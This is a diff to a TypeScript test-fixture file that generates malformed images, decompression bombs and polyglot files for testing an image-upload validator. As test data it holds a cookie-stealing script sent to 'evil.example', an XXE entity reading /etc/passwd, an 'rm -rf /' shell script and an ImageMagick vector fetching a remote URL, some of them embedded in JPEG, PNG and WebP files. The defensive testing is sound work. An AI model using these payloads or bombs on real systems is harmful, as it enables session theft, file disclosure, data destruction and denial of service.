@@ -1,17 +1,17 @@
 import { deflateSync } from "node:zlib";
 import sharp from "sharp";
 import { pngChunk, pngOf, pngSignature } from "../support/png.js";
-import { scene, sceneAs, withChunk, withComment } from "./samples.js";
+import { drawPicture, pictureAs, withChunk, withComment } from "./sample-pictures.js";
 
 type Make = () => Buffer | Promise<Buffer>;
 
-/** What somebody might hide behind a picture; no stored picture may hold it. */
+/** A payload that an attacker might append to a picture; no stored picture may contain it. */
 export const payload = "<script>fetch('https://evil.example/'+document.cookie)</script>";
 
 const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10"/>${payload}</svg>`;
-const small = (format: "jpeg" | "png" | "webp") => sceneAs(format, 64, 40);
+const small = (format: "jpeg" | "png" | "webp") => pictureAs(format, 64, 40);
 
-/** Bytes without any order, but the same in each run. */
+/** Pseudo-random bytes, the same in every run. */
 export function noise(length: number, seed = 1): Buffer {
   let state = seed;
   return Buffer.from(
@@ -22,13 +22,13 @@ export function noise(length: number, seed = 1): Buffer {
   );
 }
 
-const garbageBehind = (signature: Buffer) => Buffer.concat([signature, noise(5000)]);
+const noiseAfter = (signature: Buffer) => Buffer.concat([signature, noise(5000)]);
 const jpegSignature = Buffer.from("ffd8ffe0", "hex");
 const webpSignature = Buffer.concat([Buffer.from("RIFF"), Buffer.from([0x90, 0x13, 0, 0]), Buffer.from("WEBPVP8 ")]);
 const half = (file: Buffer) => file.subarray(0, file.length / 2);
 
-/** A copy in which one byte is another. */
-function damaged(file: Buffer, at: number): Buffer {
+/** A copy with one byte changed. */
+function corrupted(file: Buffer, at: number): Buffer {
   const copy = Buffer.from(file);
   copy[at] = (copy[at] ?? 0) ^ 0x5a;
   return copy;
@@ -50,37 +50,37 @@ function bmp(): Buffer {
   return Buffer.concat([header, Buffer.alloc(16)]);
 }
 
-/** Files that are no whole picture of a format that is taken. */
-export const noPictures: [string, Make][] = [
+/** Files that are not a complete picture in a supported format. */
+export const invalidPictures: [string, Make][] = [
   ["an SVG", () => Buffer.from(svg)],
-  ["an SVG behind an XML declaration", () => Buffer.from(`<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n${svg}`)],
-  ["a page of HTML", () => Buffer.from(`<!doctype html>${payload}`)],
-  ["a GIF", () => scene(64, 40).gif().toBuffer()],
-  ["a TIFF", () => scene(64, 40).tiff().toBuffer()],
-  ["an AVIF", () => scene(64, 40).avif({ effort: 0 }).toBuffer()],
+  ["an SVG after an XML declaration", () => Buffer.from(`<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n${svg}`)],
+  ["an HTML page", () => Buffer.from(`<!doctype html>${payload}`)],
+  ["a GIF", () => drawPicture(64, 40).gif().toBuffer()],
+  ["a TIFF", () => drawPicture(64, 40).tiff().toBuffer()],
+  ["an AVIF", () => drawPicture(64, 40).avif({ effort: 0 }).toBuffer()],
   ["a BMP", bmp],
   ["a PDF", () => Buffer.from("%PDF-1.4\n1 0 obj <</Type /Catalog>> endobj\ntrailer <</Root 1 0 R>>\n%%EOF\n")],
   ["a ZIP", () => Buffer.concat([Buffer.from("PK\x05\x06"), Buffer.alloc(18)])],
   ["a script", () => Buffer.from("#!/bin/sh\nrm -rf /\n")],
-  ["a drawing of ImageMagick", () => Buffer.from("push graphic-context\nimage over 0,0 0,0 'https://evil.example/x.png'\npop graphic-context\n")],
+  ["an ImageMagick vector script", () => Buffer.from("push graphic-context\nimage over 0,0 0,0 'https://evil.example/x.png'\npop graphic-context\n")],
   ["an empty file", () => Buffer.alloc(0)],
   ["one byte", () => Buffer.from([0xff])],
   ["noise", () => noise(5000)],
-  ["text", () => Buffer.from("no picture")],
-  ["the beginning of a JPEG and nothing else", () => jpegSignature],
-  ["the beginning of a PNG and nothing else", () => pngSignature],
-  ["the beginning of a WebP and nothing else", () => webpSignature],
-  ["the beginning of a JPEG and noise", () => garbageBehind(jpegSignature)],
-  ["the beginning of a PNG and noise", () => garbageBehind(pngSignature)],
-  ["the beginning of a WebP and noise", () => garbageBehind(webpSignature)],
-  ["the beginning of a PNG and an SVG", () => Buffer.concat([pngSignature, Buffer.from(svg)])],
+  ["text", () => Buffer.from("not a picture")],
+  ["only the beginning of a JPEG", () => jpegSignature],
+  ["only the beginning of a PNG", () => pngSignature],
+  ["only the beginning of a WebP", () => webpSignature],
+  ["the beginning of a JPEG followed by noise", () => noiseAfter(jpegSignature)],
+  ["the beginning of a PNG followed by noise", () => noiseAfter(pngSignature)],
+  ["the beginning of a WebP followed by noise", () => noiseAfter(webpSignature)],
+  ["the beginning of a PNG followed by an SVG", () => Buffer.concat([pngSignature, Buffer.from(svg)])],
   ["half a JPEG", async () => half(await small("jpeg"))],
   ["half a PNG", async () => half(await small("png"))],
   ["half a WebP", async () => half(await small("webp"))],
-  ["a PNG whose header has a wrong checksum", async () => damaged(await small("png"), 30)],
-  ["a PNG whose pixels have a wrong checksum", async () => damaged(await small("png"), (await small("png")).length - 14)],
-  ["a PNG of no width", () => pngOf({ width: 0, height: 6, depth: 8, colours: 2, rows: Buffer.alloc(6) })],
-  ["a PNG of less rows than it says", () => pngOf({ width: 8, height: 6, depth: 8, colours: 2, rows: Buffer.alloc(25) })],
+  ["a PNG whose header has a wrong checksum", async () => corrupted(await small("png"), 30)],
+  ["a PNG whose pixels have a wrong checksum", async () => corrupted(await small("png"), (await small("png")).length - 14)],
+  ["a PNG of width zero", () => pngOf({ width: 0, height: 6, depth: 8, colours: 2, rows: Buffer.alloc(6) })],
+  ["a PNG with fewer rows than its header claims", () => pngOf({ width: 8, height: 6, depth: 8, colours: 2, rows: Buffer.alloc(25) })],
   [
     "a PNG without pixels",
     () =>
@@ -91,8 +91,8 @@ export const noPictures: [string, Make][] = [
 const bitsOf = (width: number, height: number) =>
   pngOf({ width, height, depth: 1, colours: 0, rows: Buffer.alloc((Math.ceil(width / 8) + 1) * height) });
 
-/** A JPEG whose header says another size than it has. */
-async function jpegThatClaims(width: number, height: number): Promise<Buffer> {
+/** A JPEG whose header claims a wrong size. */
+async function jpegClaiming(width: number, height: number): Promise<Buffer> {
   const file = Buffer.from(await small("jpeg"));
   const frame = file.indexOf(Buffer.from([0xff, 0xc0]));
   file.writeUInt16BE(height, frame + 5);
@@ -100,8 +100,8 @@ async function jpegThatClaims(width: number, height: number): Promise<Buffer> {
   return file;
 }
 
-/** A WebP whose header says another size than it has. */
-async function webpThatClaims(side: number): Promise<Buffer> {
+/** A WebP whose header claims a wrong size. */
+async function webpClaiming(side: number): Promise<Buffer> {
   const file = Buffer.from(await small("webp"));
   const frame = file.indexOf(Buffer.from([0x9d, 0x01, 0x2a]));
   file.writeUInt16LE(side, frame + 3);
@@ -109,27 +109,27 @@ async function webpThatClaims(side: number): Promise<Buffer> {
   return file;
 }
 
-/** Few bytes that become many pixels: more than 50 megapixels. */
-export const bombs: [string, Make][] = [
+/** Small files that decode to more than 50 megapixels. */
+export const oversizedPictures: [string, Make][] = [
   ["a PNG of 64 megapixels in 8 KB", () => bitsOf(8000, 8000)],
-  ["a PNG of a little more than 50 megapixels", () => bitsOf(10_000, 5001)],
-  ["a PNG of 46340 by 46340 pixels that holds none", () => pngOf({ width: 46_340, height: 46_340, depth: 8, colours: 2, rows: Buffer.alloc(0) })],
-  ["a JPEG that claims 65000 by 65000 pixels", () => jpegThatClaims(65_000, 65_000)],
-  ["a WebP that claims 16383 by 16383 pixels", () => webpThatClaims(16_383)],
+  ["a PNG of slightly more than 50 megapixels", () => bitsOf(10_000, 5001)],
+  ["a PNG of 46340 by 46340 pixels without pixel data", () => pngOf({ width: 46_340, height: 46_340, depth: 8, colours: 2, rows: Buffer.alloc(0) })],
+  ["a JPEG that claims 65000 by 65000 pixels", () => jpegClaiming(65_000, 65_000)],
+  ["a WebP that claims 16383 by 16383 pixels", () => webpClaiming(16_383)],
 ];
 
-/** The most pixels that are taken. */
+/** A picture with the maximum number of pixels. */
 export const largestPicture = () => bitsOf(10_000, 5000);
 
-/** Good pictures with something else in the same file, which is not to be kept. */
+/** Valid pictures with other content in the same file, which must not be kept. */
 export const polyglots: [string, Make][] = [
-  ["a JPEG with a page behind it", async () => Buffer.concat([await small("jpeg"), Buffer.from(payload)])],
-  ["a JPEG with a ZIP behind it", async () => Buffer.concat([await small("jpeg"), Buffer.from(`PK\x03\x04${payload}`), noise(500)])],
+  ["a JPEG with a page appended", async () => Buffer.concat([await small("jpeg"), Buffer.from(payload)])],
+  ["a JPEG with a ZIP appended", async () => Buffer.concat([await small("jpeg"), Buffer.from(`PK\x03\x04${payload}`), noise(500)])],
   ["a JPEG with a script in a comment", async () => withComment(await small("jpeg"), payload)],
-  ["a PNG with a script behind it", async () => Buffer.concat([await small("png"), Buffer.from(payload)])],
-  ["a PNG with a script in a text", async () => withChunk(await small("png"), "tEXt", `Comment\0${payload}`)],
-  ["a PNG with a script in a chunk of its own", async () => withChunk(await small("png"), "scRt", payload)],
-  ["a WebP with a script behind it", async () => Buffer.concat([await small("webp"), Buffer.from(payload)])],
+  ["a PNG with a script appended", async () => Buffer.concat([await small("png"), Buffer.from(payload)])],
+  ["a PNG with a script in a text chunk", async () => withChunk(await small("png"), "tEXt", `Comment\0${payload}`)],
+  ["a PNG with a script in a custom chunk", async () => withChunk(await small("png"), "scRt", payload)],
+  ["a WebP with a script appended", async () => Buffer.concat([await small("webp"), Buffer.from(payload)])],
 ];
 
 /** A WebP of three frames of red, green and blue. */
@@ -139,7 +139,7 @@ export async function animatedWebp(): Promise<Buffer> {
       [220, 30, 30],
       [30, 200, 30],
       [30, 30, 220],
-    ].map((colour) => Buffer.alloc(64 * 40 * 3, Buffer.from(colour))),
+    ].map((color) => Buffer.alloc(64 * 40 * 3, Buffer.from(color))),
   );
   const options = { raw: { width: 64, height: 120, channels: 3, pageHeight: 40 } } as const;
   return sharp(frames, options)
@@ -147,7 +147,7 @@ export async function animatedWebp(): Promise<Buffer> {
     .toBuffer();
 }
 
-/** A PNG whose comment of few bytes is unpacked to 256 MiB. */
+/** A PNG whose compressed comment inflates to 256 MiB. */
 export async function pngOfLongText(): Promise<Buffer> {
   const text = deflateSync(Buffer.alloc(256 * 1024 * 1024), { level: 1 });
   return withChunk(await small("png"), "zTXt", Buffer.concat([Buffer.from("Comment\0\0"), text]));
